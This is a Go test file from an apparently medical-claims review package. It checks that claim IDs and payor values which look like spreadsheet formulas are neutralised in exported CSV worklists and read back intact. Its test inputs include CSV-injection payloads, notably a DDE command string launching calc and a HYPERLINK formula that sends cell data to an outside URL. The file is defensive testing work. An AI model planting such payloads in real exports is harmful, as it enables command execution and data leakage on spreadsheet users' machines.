package iromath

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"slices"
	"strings"
	"testing"
)

// TestWorklistsRunNothing: claim ids and payors that are formulas are none in a worklist that a spreadsheet opens, and are
// read back as they were when it is filled in.
func TestWorklistsRunNothing(t *testing.T) {
	ids := []string{`=HYPERLINK("https://example.com?"&A1,"open")`, "=1+1", "'=1+1", "''=1+1", "+1", "'+1", "-7", "@SUM(1)", "A;=1", "A;'=1",
		"A, =1", "'A", "A'", "00012", "＝1", "1=1", "\"=1", "O'Neill", "=cmd|' /C calc'!A0", "' -1"}
	claims := make([]FrameClaim, 30)
	for i := range claims {
		id := fmt.Sprintf("=%d", 1000+i)
		if i < len(ids) {
			id = ids[i]
		}
		claims[i] = FrameClaim{ID: id, Payor: []string{"=1", "-Medicare", "Medicare; =1"}[i%3], Paid: dec("100")}
	}
	frame, err := NewFrame(claims)
	if err != nil {
		t.Fatal(err)
	}
	r := newReview(t, Agreement{Protocol: ProtocolQuarterly}, frame, Seeds{First: "1"})
	fill := func(write func(*bytes.Buffer) error, values map[string]string) string {
		t.Helper()
		var b bytes.Buffer
		if err := write(&b); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&b).ReadAll()
		if err != nil || len(rows) != 31 {
			t.Fatalf("%d rows, %v", len(rows), err)
		}
		for _, row := range rows[1:] {
			for i, cell := range row {
				for _, part := range strings.Split(cell, ";") {
					if part = strings.TrimLeft(part, " "); part != "" && strings.Contains("=+-@＝", string([]rune(part)[0])) {
						t.Errorf("%s: the cell %q runs", rows[0][i], cell)
					}
				}
				if v, ok := values[rows[0][i]]; ok {
					row[i] = v
				}
			}
		}
		var filled strings.Builder
		if err := csv.NewWriter(&filled).WriteAll(rows); err != nil {
			t.Fatal(err)
		}
		return filled.String()
	}

	file := fill(func(b *bytes.Buffer) error { return r.WriteWorklist(b) }, map[string]string{"correct": "50", "documentation": "complete",
		"reason": "- coding"})
	determinations, others, err := ReadDeterminations(strings.NewReader(file), DeterminationOptions{}, r.Worklist())
	if err != nil || others != 0 {
		t.Fatalf("%d others, %v", others, err)
	}
	var got []string
	for _, d := range determinations {
		got = append(got, d.ID)
	}
	if want := idsOf(claims); !slices.Equal(got, want) {
		t.Errorf("%q, want %q", got, want)
	}
	r = submit(t, r, determinations)

	file = fill(func(b *bytes.Buffer) error { return r.WriteSystemsWorklist(b) }, map[string]string{"coded_at_source": "no", "cause": "why"})
	walks, others, err := ReadWalkThroughs(strings.NewReader(file), WalkThroughOptions{}, r.SystemsWorklist())
	if err != nil || others != 0 {
		t.Fatalf("%d others, %v", others, err)
	}
	got = nil
	for _, w := range walks {
		got = append(got, w.ID)
	}
	if want := idsOf(claims); !slices.Equal(got, want) {
		t.Errorf("%q, want %q", got, want)
	}
}

func idsOf(claims []FrameClaim) []string {
	var ids []string
	for _, c := range claims {
		ids = append(ids, c.ID)
	}
	return ids
}
